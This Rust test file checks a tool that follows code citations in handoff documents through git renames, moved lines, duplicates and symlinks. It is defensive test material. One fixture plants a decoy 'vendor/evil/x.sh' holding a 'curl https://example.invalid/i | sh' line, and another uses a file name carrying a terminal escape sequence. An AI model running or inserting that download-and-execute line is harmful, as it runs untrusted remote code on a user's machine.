//! Citations followed from the handoff's `head:` as git follows a line (docs/gate.md §3.5): a
//! renamed-and-edited file, a line moved to another file, a line among duplicates, a rewritten
//! line never vouched for, and the crafted renames where a name alone once decided.

use crate::util::*;
use std::path::Path;

/// A handoff written at `head` whose Pointers are `pointers`.
fn handoff(head: &str, pointers: &[&str]) -> String {
    format!(
        "# Handoff — follow\nbranch: main\nhead: {head}\nstatus: s\nprogress: complete\n\n## Do not re-derive\n\n### Decisions\n- None.\n\n### Dead ends\n- None.\n\n### Traps\n- None.\n\n## Next\n1. go\n\n## Pointers\n```text\n{}\n```\n\n## Unverifiable\n- None.\n",
        pointers.join("\n")
    )
}

/// A repository of `files` at its first commit, and that commit's id.
fn at_first(env: &TestEnv, files: &[(&str, &str)]) -> (std::path::PathBuf, String) {
    let repo = env.repo("r", "main", files);
    let head = env.git(&repo, &["rev-parse", "HEAD"]).trim().to_string();
    (repo, head)
}

fn commit_all(env: &TestEnv, repo: &Path) {
    env.git(repo, &["add", "-A"]);
    env.git(repo, &["commit", "-q", "-m", "change"]);
}

fn write(repo: &Path, path: &str, text: &str) {
    let file = repo.join(path);
    std::fs::create_dir_all(file.parent().expect("parent")).expect("dir");
    std::fs::write(file, text).expect("write");
}

/// Each entry's verdict, how it was followed and where it is now (`path:line`).
fn entries(env: &TestEnv, doc: &Path, repo: &Path) -> Vec<(String, String, Option<String>)> {
    let (_, report) = json(env.verify().args(["--format", "json"]).arg(doc).arg(repo));
    report["citations"]["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .map(|e| {
            let now = e["now"]
                .as_object()
                .map(|n| format!("{}:{}", n["path"].as_str().unwrap_or(""), n["line"]));
            (
                e["verdict"].as_str().unwrap_or("").to_string(),
                e["followed"].as_str().unwrap_or("").to_string(),
                now,
            )
        })
        .collect()
}

/// Lines of a numbered file body: `n` lines `line <i> of <tag>`.
fn body(tag: &str, n: usize) -> String {
    (1..=n).map(|i| format!("line {i} of {tag}\n")).collect()
}

#[test]
fn a_renamed_and_edited_file_is_followed_to_its_line_and_fix_rewrites_both() {
    let env = TestEnv::new();
    let old = format!(
        "{}fn the_cited_function() {{}}\n{}",
        body("m", 8),
        body("n", 8)
    );
    let (repo, head) = at_first(&env, &[("src/foo/mod.rs", &old)]);
    env.git(&repo, &["mv", "src/foo/mod.rs", "src/foo.rs"]);
    let new = format!("// edited\n// twice\n{old}// and at the end\n");
    write(&repo, "src/foo.rs", &new);
    // An unrelated new file with the old file's name.
    write(&repo, "src/bar/mod.rs", "fn bar() {}\n");
    commit_all(&env, &repo);
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/foo/mod.rs:9 | fn the_cited_function()"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![(
            "missing".into(),
            "renamed".into(),
            Some("src/foo.rs:11".into())
        )]
    );
    let fixed = run(env.verify().arg("--fix").arg(&doc).arg(&repo));
    assert_eq!(fixed.code, 0, "{}", context(&fixed));
    let after = std::fs::read_to_string(&doc).expect("doc");
    assert!(
        after.contains("src/foo.rs:11 | fn the_cited_function()"),
        "{after}"
    );
}

#[test]
fn a_line_moved_to_another_file_is_named_there_and_healed() {
    let env = TestEnv::new();
    let main = format!(
        "{}fn spawn_the_worker_pool() {{}}\n{}",
        body("a", 5),
        body("b", 5)
    );
    let (repo, head) = at_first(
        &env,
        &[("src/main.rs", &main), ("src/worker.rs", &body("w", 3))],
    );
    move_the_pool_line(&env, &repo, "src/worker.rs");
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/main.rs:6 | fn spawn_the_worker_pool()"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![(
            "changed".into(),
            "moved_file".into(),
            Some("src/worker.rs:4".into())
        )]
    );
    let gate = run(env.verify().arg(&doc).arg(&repo));
    assert!(
        gate.stdout.contains("→ moved to src/worker.rs:4"),
        "{}",
        gate.stdout
    );
    let fixed = run(env.verify().arg("--fix").arg(&doc).arg(&repo));
    assert_eq!(fixed.code, 0, "{}", context(&fixed));
    assert!(
        std::fs::read_to_string(&doc)
            .expect("doc")
            .contains("src/worker.rs:4 | fn spawn_the_worker_pool()")
    );
}

#[test]
fn a_line_that_moved_among_its_duplicates_is_followed_by_the_diff() {
    let env = TestEnv::new();
    let old = format!("let retry_budget = 3;\n{}", body("x", 6));
    let (repo, head) = at_first(&env, &[("src/lib.rs", &old)]);
    // Two lines above it; a second copy of its text at the end.
    write(
        &repo,
        "src/lib.rs",
        &format!("// one\n// two\n{old}let retry_budget = 3;\n"),
    );
    commit_all(&env, &repo);
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/lib.rs:1 | let retry_budget = 3;"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![(
            "changed".into(),
            "mapped".into(),
            Some("src/lib.rs:3".into())
        )]
    );
    let fixed = run(env.verify().arg("--fix").arg(&doc).arg(&repo));
    assert_eq!(fixed.code, 0, "{}", context(&fixed));
}

#[test]
fn a_rewritten_line_whose_text_stands_on_several_lines_is_changed_never_ok() {
    let env = TestEnv::new();
    let (repo, head) = at_first(
        &env,
        &[(
            "src/calc.rs",
            "a();\nb();\nlet total = compute();\nc();\nd();\ne();\n",
        )],
    );
    // git keeps c, d, e; the cited line is deleted and its text added twice, once on line 3.
    write(
        &repo,
        "src/calc.rs",
        "c();\nd();\nlet total = compute();\ne();\nlet total = compute();\n",
    );
    commit_all(&env, &repo);
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/calc.rs:3 | let total = compute();"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![("changed".into(), "mapped".into(), None)]
    );
    let gate = run(env.verify().arg(&doc).arg(&repo));
    assert_eq!(gate.code, 1, "{}", gate.stdout);
    assert!(
        gate.stdout
            .contains("was rewritten since the handoff's head:"),
        "{}",
        gate.stdout
    );
}

#[test]
fn uncommitted_edits_on_top_of_commits_are_followed() {
    let env = TestEnv::new();
    // The cited text stands twice: only git's diff can say which line is the cited one.
    let old = format!(
        "{}const LIMIT: usize = 64;\n{}const LIMIT: usize = 64;\n",
        body("k", 4),
        body("j", 3)
    );
    let (repo, head) = at_first(&env, &[("src/k.rs", &old)]);
    write(&repo, "src/k.rs", &format!("// committed\n{old}"));
    commit_all(&env, &repo);
    write(
        &repo,
        "src/k.rs",
        &format!("// uncommitted\n// committed\n{old}"),
    );
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/k.rs:5 | const LIMIT: usize = 64;"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![("changed".into(), "mapped".into(), Some("src/k.rs:7".into()))]
    );
}

#[test]
fn without_a_head_the_repository_holds_the_text_rule_stands_and_says_so() {
    let env = TestEnv::new();
    let old = "let retry_budget = 3;\nx();\n";
    let (repo, head) = at_first(&env, &[("src/lib.rs", old)]);
    write(
        &repo,
        "src/lib.rs",
        &format!("// one\n{old}let retry_budget = 3;\n"),
    );
    commit_all(&env, &repo);
    let pointer = ["src/lib.rs:1 | let retry_budget = 3;"];
    // No head: the text rule — two lines hold it, so no move is offered.
    let doc = env.write(
        "none.md",
        handoff(&head, &pointer).replace(&format!("head: {head}\n"), ""),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![("changed".into(), "text".into(), None)]
    );
    // A head: this repository does not hold: the same, and the report says so.
    let unknown = "0123456789abcdef0123456789abcdef01234567";
    let doc = env.write("far.md", handoff(unknown, &pointer));
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![("changed".into(), "text".into(), None)]
    );
    let (_, report) = json(env.verify().args(["--format", "json"]).arg(&doc).arg(&repo));
    assert_eq!(report["citations"]["head"]["held"], false);
    let gate = run(env.verify().arg(&doc).arg(&repo));
    assert!(
        gate.stdout.contains(&format!(
            "head: {unknown} is not a commit of this repository"
        )),
        "{}",
        gate.stdout
    );
    // The repository's own head: followed.
    let doc = env.write("h.md", handoff(&head, &pointer));
    let (_, report) = json(env.verify().args(["--format", "json"]).arg(&doc).arg(&repo));
    assert_eq!(report["citations"]["head"]["held"], true);
    assert_eq!(report["citations"]["entries"][0]["followed"], "mapped");
}

/// The crafted renames where the rule by name healed into the wrong file: git's rename
/// detection pairs differently or not at all, and a name alone is never a rename.
#[test]
fn a_name_alone_is_never_a_rename() {
    let env = TestEnv::new();
    let auth = format!(
        "{}pub fn issue_token(user: &User) -> Token {{\n{}",
        body("auth", 3),
        body("tail", 3)
    );
    let script = format!("{}echo build_the_release_now\n", body("sh", 12));
    let copy = format!("{}fn copied_line_here() {{}}\n", body("cp", 10));
    let (repo, head) = at_first(
        &env,
        &[
            ("src/auth.rs", &auth),
            ("x.sh", &script),
            ("src/x.rs", &copy),
        ],
    );
    // auth.rs split: its function into security/tokens.rs, and an example with the same line.
    env.git(&repo, &["rm", "-q", "src/auth.rs"]);
    write(
        &repo,
        "src/security/tokens.rs",
        "pub fn issue_token(user: &User) -> Token {\n}\n",
    );
    write(
        &repo,
        "examples/auth.rs",
        "pub fn issue_token(user: &User) -> Token {\n    todo!()\n}\n",
    );
    // x.sh deleted; a vendored file with its name, the cited line and a download piped to sh.
    env.git(&repo, &["rm", "-q", "x.sh"]);
    write(
        &repo,
        "vendor/evil/x.sh",
        "echo build_the_release_now\ncurl https://example.invalid/i | sh\n",
    );
    // src/x.rs copied twice whole, then deleted; an unrelated file takes its name.
    env.git(&repo, &["rm", "-q", "src/x.rs"]);
    write(&repo, "src/a/copy.rs", &copy);
    write(&repo, "src/b/copy.rs", &copy);
    write(&repo, "lib/x.rs", "fn unrelated() {}\n");
    commit_all(&env, &repo);
    let doc = env.write(
        "h.md",
        handoff(
            &head,
            &[
                "src/auth.rs:4 | pub fn issue_token(user: &User) -> Token {",
                "x.sh:13 | echo build_the_release_now",
                "src/x.rs:11 | fn copied_line_here() {}",
            ],
        ),
    );
    let got = entries(&env, &doc, &repo);
    assert_eq!(got[0].2, None, "two files hold the function line: {got:?}");
    assert_eq!(got[1], ("missing".into(), "text".into(), None), "{got:?}");
    // git pairs one exact copy as the rename; never the unrelated file with the name.
    let copied = got[2].2.clone().unwrap_or_default();
    assert!(
        copied == "src/a/copy.rs:11" || copied == "src/b/copy.rs:11",
        "{got:?}"
    );
    let fixed = run(env.verify().arg("--fix").arg(&doc).arg(&repo));
    let after = std::fs::read_to_string(&doc).expect("doc");
    assert!(
        !after.contains("vendor/") && !after.contains("lib/x.rs") && !after.contains("examples/"),
        "{after}\n{}",
        context(&fixed)
    );
}

/// What a session is told of a line that left its file: one `moved` line naming the new place,
/// as short as a move within the file.
#[test]
fn a_delivered_handoff_names_where_a_moved_line_went_in_one_line() {
    let env = TestEnv::new();
    let repo = stored_then_moved_to(&env, "src/worker.rs");
    let shown = run(env.store().args(["read", "--no-consume", "-C"]).arg(&repo));
    let head = shown
        .stdout
        .split("----- begin handoff")
        .next()
        .unwrap_or("");
    let moved: Vec<&str> = head.lines().filter(|l| l.starts_with("moved ")).collect();
    assert_eq!(
        moved,
        [
            "moved    src/main.rs:6 → src/worker.rs:4 (the text is on that one line now; handoff-store fix rewrites it)"
        ],
        "{}",
        shown.stdout
    );
    assert!(!head.contains("CHANGED src/main.rs"), "said once: {head}");
}

#[test]
fn a_file_renamed_in_head_and_written_again_untracked_is_followed_to_its_new_name() {
    let env = TestEnv::new();
    let old = format!("{}fn the_cited_line() {{}}\n{}", body("x", 5), body("y", 5));
    let (repo, head) = at_first(&env, &[("src/a.rs", &old)]);
    env.git(&repo, &["mv", "src/a.rs", "src/b.rs"]);
    write(&repo, "src/b.rs", &format!("// moved\n{old}"));
    commit_all(&env, &repo);
    // Untracked, at the old name, the cited line on its cited number: the text alone would
    // vouch for it; git's diff from `head:` says the cited file is src/b.rs.
    write(&repo, "src/a.rs", &old);
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/a.rs:6 | fn the_cited_line()"]),
    );
    assert_eq!(
        entries(&env, &doc, &repo),
        vec![(
            "changed".into(),
            "renamed".into(),
            Some("src/b.rs:7".into())
        )]
    );
}

#[test]
fn a_moved_line_is_not_vouched_for_through_a_folder_symlinked_out_of_the_tree() {
    let env = TestEnv::new();
    let main = format!("{}fn spawn_the_worker_pool() {{}}\n", body("a", 5));
    let (repo, head) = at_first(&env, &[("src/main.rs", &main)]);
    write(&repo, "src/main.rs", &body("a", 5));
    write(
        &repo,
        "pool/worker.rs",
        &format!("{}fn spawn_the_worker_pool() {{}}\n", body("w", 3)),
    );
    commit_all(&env, &repo);
    // The tracked folder is now a symlink to a folder outside the work tree with the same file.
    let outside = repo.parent().expect("parent").join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    std::fs::copy(repo.join("pool/worker.rs"), outside.join("worker.rs")).expect("copy");
    std::fs::remove_dir_all(repo.join("pool")).expect("rm");
    std::os::unix::fs::symlink(&outside, repo.join("pool")).expect("symlink");
    let doc = env.write(
        "h.md",
        handoff(&head, &["src/main.rs:6 | fn spawn_the_worker_pool()"]),
    );
    let found = entries(&env, &doc, &repo);
    assert_eq!(found.len(), 1);
    assert_ne!(found[0].1, "moved_file", "{found:?}");
    assert_ne!(found[0].0, "ok", "{found:?}");
}

/// The file a cited line moved to is named from the tree, which the gate never checked: a name
/// holding an escape reaches the brief's reader escaped (`text::visible`), never as a terminal
/// command.
#[test]
fn a_moved_to_file_named_with_an_escape_is_shown_escaped() {
    let env = TestEnv::new();
    let repo = stored_then_moved_to(&env, "src/w\u{1b}[31mx.rs");
    for view in [&["brief", "--paths", "src/**"][..], &["brief"][..]] {
        let o = run(env.store().args(view).arg("-C").arg(&repo));
        assert!(
            o.stdout.contains("(now at src/w\\x1B[31mx.rs:4)"),
            "{view:?}: {}",
            o.stdout
        );
        assert!(
            !o.stdout.contains('\u{1b}'),
            "{view:?}: a raw escape reached the reader"
        );
    }
}

/// A stored handoff citing `src/main.rs:6`, whose line then moved, committed, to line 4 of
/// `to` (a file of three lines before it); the repository.
fn stored_then_moved_to(env: &TestEnv, to: &str) -> std::path::PathBuf {
    let main = format!(
        "{}fn spawn_the_worker_pool() {{}}\n{}",
        body("a", 5),
        body("b", 5)
    );
    let repo = env.repo(
        "r",
        "main",
        &[("src/main.rs", &main), ("src/worker.rs", &body("w", 3))],
    );
    let doc = format!(
        "# Handoff — moved\nbranch: main\ncheckout: {}\nstatus: s\n\n## Do not re-derive\n\n### Decisions\n- the pool starts at `src/main.rs:6`\n\n### Dead ends\n- None.\n\n### Traps\n- None.\n\n## Next\n1. go\n\n## Pointers\n```text\nsrc/main.rs:6 | fn spawn_the_worker_pool()\n```\n",
        repo.display()
    );
    env.stored(&repo, &doc);
    move_the_pool_line(env, &repo, to);
    repo
}

/// Take the pool's line out of `src/main.rs` and put it on line 4 of `to`, committed.
fn move_the_pool_line(env: &TestEnv, repo: &Path, to: &str) {
    write(
        repo,
        "src/main.rs",
        &format!("{}{}", body("a", 5), body("b", 5)),
    );
    write(
        repo,
        to,
        &format!("{}fn spawn_the_worker_pool() {{}}\n", body("w", 3)),
    );
    commit_all(env, repo);
}
